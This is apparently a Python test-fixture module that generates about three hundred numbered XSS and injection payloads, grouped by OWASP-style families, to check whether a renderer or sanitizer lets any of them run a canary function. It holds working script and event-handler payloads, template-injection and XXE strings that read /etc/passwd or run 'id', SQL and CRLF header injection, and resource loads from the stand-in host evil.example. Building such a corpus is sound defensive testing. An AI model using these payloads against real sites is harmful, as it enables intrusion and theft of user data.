"""Some three hundred strings that try to become more than words.

They are built family by family after the ways in which text breaks out of its place in a page (the families are those
of OWASP's cheat sheets on cross-site scripting; the strings are our own). Each carries its number, so that one that
ran, or is not shown, can be named: `CALL` becomes a call of the canary `__pwned` with it.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from typing import Final

EVIL: Final = "evil.example"


def _scripts() -> Iterator[str]:
    for opening in (
        "<script>", "<SCRIPT>", "<ScRiPt >", "<script/x>", "<script\n>", "<script\t>", "<script\x0c>",
        "<script type=module>", "<script\x00>", "<<script>", "</script><script>", "<script x='>'>", "<script defer>",
        "<svg><script>", "<\x00script>",
    ):  # fmt: skip
        yield f"{opening}CALL</script>"
    yield "<script>CALL//"
    yield "<scr<script>ipt>CALL</scr</script>ipt>"
    yield f"<script src=//{EVIL}/x.js></script>"
    yield f"<script src=https://{EVIL}/x.js async></script>"
    yield "<script src=data:text/javascript,CALL></script>"
    yield "<script>CALL</script\n>"
    yield "<script><!--\nCALL\n--></script>"
    yield "<svg><script href=data:text/javascript,CALL />"
    yield "<ſcript>CALL</ſcript>"


def _handlers() -> Iterator[str]:
    triggers = (
        ("img", "src=x", "onerror"), ("svg", "", "onload"), ("body", "", "onload"), ("input", "autofocus", "onfocus"),
        ("details", "open", "ontoggle"), ("video", "src=x", "onerror"), ("audio", "src=x", "onerror"),
        ("iframe", "src=about:blank", "onload"), ("marquee", "", "onstart"), ("select", "autofocus", "onfocus"),
        ("textarea", "autofocus", "onfocus"), ("object", "data=x", "onerror"), ("embed", "src=x", "onload"),
        ("link", "rel=stylesheet href=x", "onerror"), ("style", "", "onload"), ("a", "href=# autofocus", "onfocus"),
        ("p", "tabindex=1 autofocus", "onfocus"), ("button", "popovertarget=x", "onclick"),
        ("x", "contenteditable", "oninput"),
    )  # fmt: skip
    for tag, attributes, handler in triggers:
        yield f"<{tag} {attributes} {handler}=CALL>"
        yield f'<{tag.upper()}/{attributes.replace(" ", "/")}/{handler.capitalize()}="CALL"//'
        yield f"<{tag}\n{attributes}\t{handler} = 'CALL' x"
    yield "<img src=x onerror\x0c=\x0cCALL>"
    yield "<img src=x onerror=&#95;&#95;pwned(NUMBER)>"
    yield "<img src=x onerror=\\u005f\\u005fpwned(NUMBER)>"
    yield "<img src=x:x onerror=eval(atob('X19wd25lZCgxKQ=='))>"
    yield '<img src="x`<img src=x onerror=CALL>"`>'
    yield f"<img srcset=https://{EVIL}/p.png>"
    yield f"<video poster=//{EVIL}/p.png>"


def _breakouts() -> Iterator[str]:
    quotes = ('"', "'", "`", '">', "'>", '"/>', '\\"', "&quot;", "&#34;>", "\u201d")
    for quote, rest in product(quotes, ("autofocus onfocus=CALL x=", "<img src=x onerror=CALL>", "onmouseover=CALL//")):
        yield f"{quote} {rest}"
    for tag in (
        "title", "textarea", "style", "script", "noscript", "template", "select", "iframe", "xmp", "noembed", "q",
        "mark", "time", "a", "p", "blockquote", "li", "td", "summary", "svg", "math", "h1", "head", "body", "html",
        "main", "cite",
    ):  # fmt: skip
        yield f"</{tag}><img src=x onerror=CALL>"
    yield "<plaintext>CALL"
    yield "<textarea>CALL"
    yield "<title><img src=x onerror=CALL>"


def _foreign_markup() -> Iterator[str]:
    yield "<svg><animate onbegin=CALL attributeName=x dur=1s>"
    yield "<svg><set attributeName=href to=javascript:CALL><a><text>x"
    yield "<svg><a><animate attributeName=href values=javascript:CALL /><text x=20 y=20>x</text></a>"
    yield "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>CALL</script></svg>#x\">"
    yield "<svg><foreignObject><img src=x onerror=CALL></foreignObject></svg>"
    yield "<svg><image href=x onerror=CALL>"
    yield "<svg><style><img src=x onerror=CALL></style>"
    yield '<svg></p><style><a id="</style><img src=x onerror=CALL>">'
    yield '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=CALL&gt;">'
    yield "<math><mi xlink:href=javascript:CALL>x</mi></math>"
    yield "<math href=javascript:CALL>x</math>"
    yield "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=CALL>"
    yield '<noscript><p title="</noscript><img src=x onerror=CALL>">'
    yield "<listing>&lt;img src=x onerror=CALL&gt;</listing>"
    yield "<table><td><svg><desc><td><img src=x onerror=CALL>"
    yield "<select><template shadowrootmode=open><img src=x onerror=CALL></template></select>"
    yield "<div><template shadowrootmode=open><script>CALL</script></template></div>"
    yield '<a href="&#1;javascript:CALL">x</a>'


def _elements() -> Iterator[str]:
    yield f'<meta http-equiv=refresh content="0;url=https://{EVIL}/">'
    yield '<meta http-equiv="refresh" content="0;javascript:CALL">'
    yield '<meta http-equiv=Content-Security-Policy content="script-src *"><script>CALL</script>'
    yield f"<base href=https://{EVIL}/>"
    yield f"<form action=https://{EVIL}/><input name=q value=CALL><button autofocus>Show"
    yield "<form id=f></form><button form=f formaction=javascript:CALL>Show"
    yield "<iframe src=javascript:CALL></iframe>"
    yield '<iframe srcdoc="<script>parent.CALL</script>"></iframe>'
    yield f"<iframe src=https://{EVIL}/></iframe>"
    yield "<object data=javascript:CALL></object>"
    yield '<object data="data:text/html,<script>parent.CALL</script>"></object>'
    yield "<embed src=javascript:CALL>"
    yield "<frameset onload=CALL><frame src=javascript:CALL>"
    yield f"<link rel=stylesheet href=//{EVIL}/x.css>"
    yield f"<link rel=prefetch href=//{EVIL}/CALL>"
    yield f'<script type=speculationrules>{{"prerender":[{{"urls":["https://{EVIL}/"]}}]}}</script>'
    yield f"<a href=https://{EVIL}/ ping=https://{EVIL}/ autofocus>x</a>"
    yield f"<dialog open><form method=post action=//{EVIL}/><button>CALL"
    yield f"<applet code=//{EVIL}/x.class>"
    yield "<area href=javascript:CALL shape=default>"
    yield f"<portal src=https://{EVIL}/>"


def _styles() -> Iterator[str]:
    yield f"</style><style>*{{background:url(https://{EVIL}/)}}</style>"
    yield f"<style>@import '//{EVIL}/x.css';</style>"
    yield f"<p style=\"background:url('https://{EVIL}/p.png')\">x</p>"
    yield '<p style="width:expression(CALL)">x</p>'
    yield '<p style="position:fixed;inset:0;background:red">x</p>'
    yield "<style>body{display:none!important}</style>"
    yield "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=CALL>"
    yield "xss:expression(CALL)"
    yield f"}}*{{background:url(//{EVIL}/)}}"
    yield f'url("https://{EVIL}/")'


def _templates() -> Iterator[str]:
    yield "{{ 7*7 }}"
    yield "{{ config }}{{ self.__init__.__globals__ }}"
    yield "{{ ''.__class__.__mro__[1].__subclasses__() }}"
    yield "{% raw %}"
    yield "{% endblock %}{% include '/etc/passwd' %}"
    yield "{# unfinished"
    yield "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    yield "{{constructor.constructor('CALL')()}}"
    yield "${7*7}${CALL}"
    yield "#{7*7}"
    yield "<%= 7*7 %>"
    yield "%(asctime)s %s %n {0} {0.__class__}"
    yield "{{'<img src=x onerror=CALL>'|safe}}"


def _unicode() -> Iterator[str]:
    yield "\u202eexe.fdp \u202c"
    yield "\u2066\u2067\u2068 isolates never closed"
    yield "\u202a\u202b\u202d embedded"
    yield "zero\u200bwidth\u200cand\u200djoined\u2060\ufeff"
    yield "nul\x00in the\x00middle"
    yield "bell\x07 escape\x1b[2J\x1b]8;;https://evil.example\x07click delete\x7f"
    yield "c1 \x80\x85\x90\x9b31m\x9f"
    yield "＜script＞CALL＜/script＞"
    yield "\u2028CALL\u2029"
    yield "‹script›CALL‹/script›"
    yield "nonchar\ufffe\uffff\U0001ffff"
    yield "combining" + "\u0337\u0321\u0334" * 12
    yield "tags\U000e0041\U000e0042\U000e007f"
    yield "اَلْعَرَبِيَّةُ <script>CALL</script> עברית"
    yield "\ud7ff\ue000\U0010fffd"
    yield "+ADw-script+AD4-CALL+ADw-/script+AD4-"
    yield "%3Cscript%3ECALL%3C/script%3E"
    yield "\u212aelvin \u0130stanbul \ufb03 \u1e9e"


def _comments() -> Iterator[str]:
    for opening in (
        "<!--",
        "-->",
        "--!>",
        "<!-->",
        "<!--->",
        "<!-- --!>",
        "<!--><!--",
        "<![CDATA[",
        "]]>",
        "<![CDATA[x]]>",
    ):
        yield f"{opening}<img src=x onerror=CALL>"
    yield "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>CALL</script>"
    yield "<?php echo 'CALL'; ?>"
    yield "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;"
    yield "<!ENTITY % p SYSTEM '//evil.example/x.dtd'>%p;"
    yield "<!--[if gte IE 4]><script>CALL</script><![endif]-->"
    yield "</ <img src=x onerror=CALL>"
    yield "<! ><img src=x onerror=CALL>"
    yield "<//><img src=x onerror=CALL>"


def _literals() -> Iterator[str]:
    yield '";CALL;//'
    yield "';CALL;//"
    yield "'-CALL-'"
    yield "\\';CALL;//"
    yield "`${CALL}`"
    yield "\\u003cscript\\u003eCALL\\u003c/script\\u003e"
    yield "\\x3cscript\\x3eCALL\\x3c/script\\x3e"
    yield '{"__proto__": {"polluted": 1}}'
    yield '"}]}</script><script>CALL</script>'
    yield "*/CALL/*"
    yield "\nCALL\n"
    yield "]]};CALL;[["
    yield "'; DROP TABLE signals; --"
    yield '=HYPERLINK("https://evil.example/";"x")'


def _entities() -> Iterator[str]:
    yield "&lt;script&gt;CALL&lt;/script&gt;"
    yield "&#60;script&#62;CALL&#60;/script&#62;"
    yield "&#x3c;img src=x onerror=CALL&#x3e;"
    yield "&#0000060img src=x onerror=CALL&#0000062"
    yield "&amp;lt;script&amp;gt;CALL&amp;lt;/script&amp;gt;"
    yield "&lt;img src=x onerror=CALL&gt"
    yield "&NewLine;&Tab;&colon;&lpar;CALL&rpar;"
    yield "&#x202e;&#0;&#x110000;&bogus;"


def _markdown() -> Iterator[str]:
    yield "[x](javascript:CALL)"
    yield "[x](<javascript:CALL>)"
    yield "[x](JaVaScRiPt:CALL 'title')"
    yield '![x](x" onerror="CALL)'
    yield f"![x](https://{EVIL}/p.png)"
    yield "[x]: javascript:CALL\n\n[x]"
    yield "<javascript:CALL>"
    yield f"<https://{EVIL}/>"
    yield "`` `<img src=x onerror=CALL> ``"
    yield "```html\n<script>CALL</script>\n```"
    yield "\n\n<script>CALL</script>\n\n"
    yield "# x\n- x\n> x\n| x | y |\n|---|---|"
    yield "~~x~~ **x** _x_ ***x"
    yield "\\<script>CALL\\</script>"
    yield "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"
    yield "x](y)[z](javascript:CALL"


def _lines() -> Iterator[str]:
    yield f"x\r\nBcc: everyone@{EVIL}"
    yield "x\nSubject: other\n\n<script>CALL</script>"
    yield f"x\r\n.\r\nRCPT TO:<everyone@{EVIL}>"
    yield "x\r\nContent-Type: text/html\r\n\r\n<script>CALL</script>"
    yield "=?utf-8?b?PHNjcmlwdD4=?= CALL"
    yield "--boundary\r\nContent-Type: text/html\r\n\r\n<img src=x onerror=CALL>"
    yield "data: x\n\nevent: moved\ndata: CALL"
    yield "A" * 2000 + "<script>CALL</script>"


_FAMILIES: Final = (
    _scripts, _handlers, _breakouts, _foreign_markup, _elements, _styles, _templates, _unicode, _comments, _literals,
    _entities, _markdown, _lines,
)  # fmt: skip


def _numbered(number: int, text: str) -> str:
    if "CALL" not in text and "NUMBER" not in text:
        text = f"{text} h{number}"
    return text.replace("CALL", f"__pwned({number})").replace("NUMBER", str(number))


HOSTILE: Final = tuple(
    _numbered(number, text) for number, text in enumerate((text for family in _FAMILIES for text in family()), 1000)
)
